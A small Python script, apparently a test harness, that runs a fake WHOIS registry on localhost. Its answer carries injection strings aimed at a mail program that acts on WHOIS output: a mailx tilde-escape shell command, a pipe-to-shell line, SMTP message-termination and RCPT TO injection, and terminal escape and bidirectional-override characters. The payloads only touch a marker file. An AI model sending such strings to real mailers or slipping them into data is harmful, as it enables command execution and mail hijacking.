#!/usr/bin/env python3
"""whois.py: a registry on 127.0.0.1:4343 that answers with a network, and with lines on which a mailer might act."""
import socketserver

LINES = ['~!touch /tmp/bailiff-was-here', '.', 'RCPT TO:<evil@mx13.example>', 'From evil', '\x1b[2J\u202eevil', '| touch /tmp/bailiff-was-here']


class Answer(socketserver.StreamRequestHandler):
    def handle(self):
        self.rfile.readline(200)
        self.wfile.write('\r\n'.join(['netname: LAB-NET', *LINES, '']).encode())


class Registry(socketserver.ThreadingTCPServer):
    allow_reuse_address = True


Registry(('127.0.0.1', 4343), Answer).serve_forever()
